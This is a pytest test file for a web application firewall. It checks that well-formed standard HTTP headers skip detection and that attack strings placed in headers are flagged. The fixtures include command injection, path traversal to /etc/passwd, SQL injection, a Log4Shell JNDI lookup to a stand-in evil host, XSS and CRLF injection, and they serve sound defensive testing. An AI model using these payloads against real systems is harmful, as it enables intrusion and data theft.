"""Standard headers in their standard shape skip the detectors; anything else in them is inspected."""

from __future__ import annotations

import pytest
from fw_helpers import views_scanned

from hullguard.firewall import Firewall
from hullguard.firewall.header_shapes import MAX_VALUE, fits

# Values real browsers, SDKs and CloudFront send.
REAL_VALUES = [
    ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
    ("accept", "application/json, text/plain, */*"),
    ("accept", "application/vnd.github.v3+json"),
    ("content-type", "application/json; charset=utf-8"),
    ("content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"),
    ("accept-language", "en-US,en;q=0.9,de;q=0.8"),
    ("accept-language", "zh-Hant-TW, zh;q=0.7, *;q=0.1"),
    ("accept-encoding", "gzip, deflate, br, zstd"),
    ("accept-encoding", "identity;q=1, *;q=0"),
    ("via", "2.0 a1b2c3d4e5f6.cloudfront.net (CloudFront)"),
    ("via", "1.1 varnish, 1.1 proxy.example.net"),
    ("x-amzn-trace-id", "Root=1-65a1b2c3-4d5e6f708192a3b4c5d6e7f8;Parent=53995c3f42cd8ad8;Sampled=1"),
    ("x-amz-cf-id", "Zt5pX3c2hJq9wJ0a1b2c3d4e5f6g7h8i9j0kLmNoPqRsTuVwXyZ=="),
    ("cloudfront-viewer-country", "DE"),
    ("cloudfront-is-mobile-viewer", "false"),
    ("x-forwarded-proto", "https"),
    ("x-forwarded-port", "443"),
]


@pytest.mark.parametrize(("name", "value"), REAL_VALUES)
def test_real_values_fit_their_header(name: str, value: str) -> None:
    assert fits(f"headers.{name}", value)


# Attacks placed in the same headers: none fits, so each reaches the detectors.
ATTACKS = [
    ("accept", "text/html; x=$(id)", "cmdi"),
    ("accept", "../../../../etc/passwd", "path"),
    ("content-type", "application/x-www-form-urlencoded; charset=' OR '1'='1", "sqli"),
    ("accept-language", "en-US,en;q=0.9; cat /etc/passwd", "cmdi"),
    ("accept-language", "en' UNION SELECT password FROM users--", "sqli"),
    ("accept-encoding", "gzip, ${jndi:ldap://evil.example/a}", "code"),
    ("via", "1.1 <script>alert(1)</script>", "xss"),
    ("x-amzn-trace-id", "Root=1-65a1b2c3;Self=`id`", "cmdi"),
    ("x-forwarded-proto", "https\r\nSet-Cookie: session=attacker", "crlf"),
]


@pytest.mark.parametrize(("name", "value", "attack"), ATTACKS)
def test_attacks_in_standard_headers_do_not_fit_and_are_found(name: str, value: str, attack: str) -> None:
    assert not fits(f"headers.{name}", value)
    event = {"resource": "/", "path": "/", "httpMethod": "GET", "headers": {name: value},
             "requestContext": {"requestId": "r"}}
    assert attack in {f.attack for f in Firewall().inspect(event).findings}


def test_only_known_headers_whole_values_and_short_ones_fit() -> None:
    assert not fits("headers.user-agent", "Mozilla/5.0")  # no grammar: always inspected
    assert not fits("queryStringParameters.accept", "text/html")  # a parameter, not the header
    assert not fits("headers.accept", "text/html x")  # a whole value or nothing
    assert not fits("headers.accept", "a/" + "b" * MAX_VALUE)
    assert not fits("headers.accept", "text/html..x/y")  # "..": never part of a token


def test_a_fitting_header_is_no_view_but_its_base64_decoding_is() -> None:
    # "eCcgdW5pb24gc2VsZWN0IDEtLQ==" fits X-Amz-Cf-Id's grammar and is base64 for "x' union select 1--".
    event = {"resource": "/", "path": "/", "httpMethod": "GET", "requestContext": {"requestId": "r"},
             "headers": {"Accept": "application/json", "X-Amz-Cf-Id": "eCcgdW5pb24gc2VsZWN0IDEtLQ=="}}
    views = views_scanned(Firewall(), event)
    assert ("headers.accept", "application/json") not in views
    assert ("headers.x-amz-cf-id", "eCcgdW5pb24gc2VsZWN0IDEtLQ==") not in views
    assert ("headers.x-amz-cf-id", "x' union select 1--") in views
    assert "sqli" in {f.attack for f in Firewall().inspect(event).findings}
